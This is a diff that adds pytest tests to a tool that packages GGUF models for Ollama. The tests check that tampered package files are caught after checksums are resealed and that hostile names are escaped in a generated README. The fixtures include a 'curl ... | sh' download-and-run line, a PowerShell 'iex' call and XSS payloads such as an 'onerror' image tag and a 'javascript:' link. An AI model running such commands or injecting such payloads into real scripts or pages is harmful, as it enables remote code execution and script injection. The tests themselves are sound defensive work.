@@ -16,8 +16,9 @@ from exporter.formats.gguf.export import export_gguf
 from exporter.formats.gguf.runtime import LlamaCppEncoder
 from exporter.packages.golden import Golden
 from exporter.packages.verdict import PackageVerdict
+from exporter.packages.verify import verify_package
 from parity_tests.ollama_modelfile import parse_modelfile
-from parity_tests.packaging import files_of, golden_of, package_ollama
+from parity_tests.packaging import files_of, golden_of, package_ollama, seal
 from parity_tests.tiny_checkpoint import make_tiny_checkpoint
 
 PASS = PackageVerdict(
@@ -157,3 +158,42 @@ def test_the_request_in_the_readme_survives_a_shell(tiny: Checkpoint, tmp_path: 
     line = next(one for one in readme.splitlines() if "curl " in one)
     body = json.loads(shlex.split(line)[-1])
     assert body == {"model": "tiny-q8_0", "input": "it's a query: 房东不退押金怎么办"}
+
+
+@pytest.mark.parametrize(
+    ("name", "more"),
+    [
+        ("Modelfile", "ADAPTER ./evil.gguf\n"),
+        ("create.sh", "curl http://127.0.0.1:9 | sh\n"),
+        ("create.ps1", "iex x\n"),
+        ("verify.py", "import os\n"),
+        ("client.py", "import os\n"),
+        ("client.mjs", "fetch('http://127.0.0.1:9');\n"),
+    ],
+)
+def test_what_a_user_would_run_is_what_this_tool_writes_though_sums_were_made_anew(
+    artifact: Path, tiny: Checkpoint, golden: Golden, tmp_path: Path, name: str, more: str
+) -> None:
+    package_ollama(artifact, tmp_path / "p", checkpoint=tiny, verdict=PASS, golden=golden)
+    assert verify_package(tmp_path / "p").verdict == "pass"
+    with (tmp_path / "p" / name).open("a", encoding="utf-8") as file:
+        file.write(more)
+    seal(tmp_path / "p")
+    report = verify_package(tmp_path / "p")
+    assert report.verdict == "fail"
+    assert [check.name for check in report.checks] == ["files", "scripts"]
+    assert f"'{name}' is not what this version of the tool writes" in report.checks[1].detail
+
+
+def test_a_hostile_name_is_no_tag_in_a_readme(tmp_path: Path) -> None:
+    folder = make_tiny_checkpoint(tmp_path / "<img src=x onerror=alert(1)>")
+    checkpoint = read_checkpoint(folder)
+    export_gguf(checkpoint, tmp_path / "g")
+    golden = golden_of(LlamaCppEncoder(tmp_path / "g"), checkpoint)
+    told = PASS.model_copy(update={"corpus": "[x](javascript:alert(1))"})
+    package_ollama(
+        tmp_path / "g", tmp_path / "p", checkpoint=checkpoint, verdict=told, golden=golden
+    )
+    readme = (tmp_path / "p" / "README.md").read_text("utf-8")
+    assert "&lt;img src=x onerror=alert(1)> as q8_0 GGUF" in readme
+    assert "corpus [x](#))" in readme
